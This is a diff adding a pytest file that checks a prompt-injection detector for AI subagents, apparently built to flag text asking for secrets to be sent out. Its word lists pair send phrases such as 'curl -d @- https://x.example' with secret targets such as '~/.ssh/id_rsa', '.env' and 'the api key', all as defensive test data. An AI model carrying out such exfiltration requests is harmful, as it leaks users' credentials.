@@ -1,0 +1,69 @@
+"""A view whose only kinds are sends and secrets is judged "nothing" at once when no secret is
+where a send could carry it (:func:`subagents.lint.rules.injection._signals`): every text gets
+the verdict the full judgement gives it, in each tier a process goes through, on the
+development texts and on made-up texts with sends and secrets at every distance around the
+reach of a send (120 characters before it, its own end)."""
+
+from __future__ import annotations
+
+import random
+
+import pytest
+
+from injection_helpers import TIERS, built_scanner, development_texts, phrases_with_gaps
+from subagents.lint.rules import injection, injection_gate, injection_scan, injection_views
+
+_SENDS = ["send it to https://x.example/", "upload the archive to", "post them to",
+          "send the release request to", "email", "curl -d @- https://x.example", "include them",
+          "please send"]
+_SECRETS = ["the api key", "your tokens", ".env", "credentials", "~/.ssh/id_rsa", "passwords",
+            "no secrets", "without credentials", "'the api key'"]
+_FILLER = ["the", "build", "report", "and", "then", "files", "notes.", "x", "review,"]
+
+
+def _verdicts(texts: list[str], first: bool) -> list[object]:
+    injection.PAIRS_FIRST = first
+    try:
+        return [injection._assess(text) for text in texts]
+    finally:
+        injection.PAIRS_FIRST = True
+
+
+def _made_up(seed: int, count: int) -> list[str]:
+    rng = random.Random(seed)
+    texts = []
+    for _ in range(count):
+        heads, tails = (_SENDS, _SECRETS) if rng.random() < 0.5 else (_SECRETS, _SENDS)
+        texts.append(phrases_with_gaps(rng, heads, _FILLER, tails, [". ", "\n", " "], 4, 12))
+    return texts
+
+
+@pytest.fixture(scope="module")
+def scan() -> injection_scan.Scanner | None:
+    return built_scanner()
+
+
+@pytest.mark.parametrize("tier", list(TIERS))
+def test_the_same_verdicts_with_and_without_the_early_answer(
+        tier: str, scan: injection_scan.Scanner | None, monkeypatch: pytest.MonkeyPatch) -> None:
+    read, scanned = TIERS[tier]
+    monkeypatch.setattr(injection_views, "_READ", [read])
+    monkeypatch.setattr(injection_gate, "_READ", [read])
+    injection_scan.set_scanner(scan if scanned else None, failed=not scanned or scan is None)
+    early = [0]
+    real = injection._signals
+
+    def counting(search: object, norm: str, raw: bytes) -> object:
+        out = real(search, norm, raw)  # type: ignore[arg-type]
+        early[0] += out is None
+        return out
+
+    monkeypatch.setattr(injection, "_signals", counting)
+    try:
+        texts = development_texts(docs=False) + _made_up(22, 400)
+        first = _verdicts(texts, True)
+        assert early[0] > 20  # (the early answer was given, often)
+        assert first == _verdicts(texts, False)
+        assert sum(v is not None and "exfil" in v.signals for v in first) > 20  # pairs too
+    finally:
+        injection_scan.set_scanner(None)
